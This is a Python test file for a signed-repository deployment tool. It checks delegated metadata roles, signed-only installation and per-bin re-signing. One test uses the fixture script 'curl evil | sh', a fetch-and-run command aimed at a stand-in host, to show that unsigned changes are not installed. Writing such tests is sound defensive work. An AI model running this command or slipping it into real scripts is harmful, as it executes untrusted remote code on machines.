"""Metadata format 2 (delegated roles), opt-in with ``format = 2`` in bootpull.toml.

A real repository is migrated from format 1 by committing ``format = 2`` and publishing;
the node then verifies through ngclient's delegations and reads its files by blob id.
"""

from __future__ import annotations

import json
from pathlib import Path

from bootpull.delegation import DELEGATED_DIR
from signed_repo import MAC_DB, MAC_WEB, SignedRepo, migrate, node_pull


def test_migrated_repository_delegates_and_the_node_installs(signed_repo: SignedRepo,
                                                              tmp_path: Path) -> None:
    migrate(signed_repo)
    delegated = sorted(p.name for p in (signed_repo.root / DELEGATED_DIR).iterdir())
    assert "role-web.json" in delegated and "role-db.json" in delegated
    assert any(name.startswith("hosts-") for name in delegated)
    top = json.loads((signed_repo.root / ".bootpull/metadata/targets.json").read_text())
    assert top["signed"]["delegations"]["roles"], "the top-level targets delegates"
    assert not any(p.startswith("head/hosts/") for p in top["signed"]["targets"])
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "web")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\necho serving\n"
    db = {f.path for f in node_pull(signed_repo, MAC_DB, tmp_path / "db").bundle.files}
    assert "schema.sql" in db


def test_format2_unpublished_change_is_not_installed(signed_repo: SignedRepo,
                                                     tmp_path: Path) -> None:
    migrate(signed_repo)
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)
    signed_repo.commit("not published")
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "s")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\necho serving\n", "only signed bytes install"
    signed_repo.publish()
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "s")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\ncurl evil | sh\n"


def test_format2_publish_after_one_host_change_re_signs_one_bin(signed_repo: SignedRepo
                                                                ) -> None:
    migrate(signed_repo)
    before = {p.name: p.read_bytes() for p in (signed_repo.root / DELEGATED_DIR).iterdir()}
    signed_repo.write(f"hosts/{MAC_DB.canonical}.toml", b'role = "db"\nhostname = "db-9"\n')
    signed_repo.commit("db-9")
    signed_repo.publish()
    after = {p.name: p.read_bytes() for p in (signed_repo.root / DELEGATED_DIR).iterdir()}
    changed = sorted(n for n in after if after[n] != before.get(n))
    assert len(changed) == 1 and changed[0].startswith("hosts-"), changed
